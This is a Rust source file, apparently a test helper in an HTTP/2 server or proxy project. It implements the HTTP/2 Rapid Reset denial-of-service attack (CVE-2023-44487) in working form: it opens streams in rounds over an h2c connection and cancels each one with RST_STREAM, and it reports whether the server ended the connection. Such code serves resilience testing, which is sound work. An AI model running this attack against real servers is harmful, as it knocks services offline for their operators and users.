//! Rapid reset as an attacker sends it (CVE-2023-44487, in the variant that lets each stream be
//! accepted first): on one h2c connection, rounds of GET requests, a pause so that the server
//! takes them and sends them upstream, then RST_STREAM (CANCEL) for every one.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::sync::mpsc;

use crate::raw_h2::{END_HEADERS, END_STREAM, GOAWAY, HEADERS, RST_STREAM, SETTINGS, block, frame};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const CANCEL: u32 = 8;

/// What the server said while a reader watched.
enum Heard {
    /// Its SETTINGS, to be acknowledged.
    Settings,
    /// GOAWAY, or the end of the connection.
    End,
}

/// Sends up to `rounds` rounds of `per_round` requests for `path`, each round reset after
/// `pause`. Returns how many streams were opened, and whether the server ended the connection
/// (GOAWAY or close) before the rounds ran out.
pub async fn rapid_reset(
    addr: SocketAddr,
    path: &[u8],
    rounds: usize,
    per_round: u32,
    pause: Duration,
) -> (u32, bool) {
    let Ok(s) = TcpStream::connect(addr).await else {
        return (0, true);
    };
    let (mut rd, mut wr) = s.into_split();
    let (tx, mut heard) = mpsc::unbounded_channel();
    tokio::spawn(async move {
        let mut buf = Vec::new();
        let mut chunk = [0u8; 16 * 1024];
        loop {
            while buf.len() >= 9 {
                let len = u32::from_be_bytes([0, buf[0], buf[1], buf[2]]) as usize;
                if buf.len() < 9 + len {
                    break;
                }
                match (buf[3], buf[4] & 1) {
                    (SETTINGS, 0) => drop(tx.send(Heard::Settings)),
                    (GOAWAY, _) => drop(tx.send(Heard::End)),
                    _ => {}
                }
                buf.drain(..9 + len);
            }
            match rd.read(&mut chunk).await {
                Ok(n) if n > 0 => buf.extend_from_slice(&chunk[..n]),
                _ => {
                    let _ = tx.send(Heard::End);
                    return;
                }
            }
        }
    });
    let mut out = PREFACE.to_vec();
    out.extend(frame(SETTINGS, 0, 0, &[]));
    if wr.write_all(&out).await.is_err() {
        return (0, true);
    }
    let fields: [(&[u8], &[u8]); 4] = [
        (b":method", b"GET"),
        (b":scheme", b"http"),
        (b":path", path),
        (b":authority", b"localhost"),
    ];
    let head = block(&fields);
    let (mut next, mut opened) = (1u32, 0u32);
    for _ in 0..rounds {
        while let Ok(h) = heard.try_recv() {
            match h {
                Heard::Settings => {
                    if wr.write_all(&frame(SETTINGS, 1, 0, &[])).await.is_err() {
                        return (opened, true);
                    }
                }
                Heard::End => return (opened, true),
            }
        }
        let first = next;
        let mut out = Vec::new();
        for _ in 0..per_round {
            out.extend(frame(HEADERS, END_HEADERS | END_STREAM, next, &head));
            next += 2;
        }
        if wr.write_all(&out).await.is_err() {
            return (opened, true);
        }
        opened += per_round;
        tokio::time::sleep(pause).await;
        let mut out = Vec::new();
        for id in (first..next).step_by(2) {
            out.extend(frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes()));
        }
        if wr.write_all(&out).await.is_err() {
            return (opened, true);
        }
    }
    (opened, false)
}
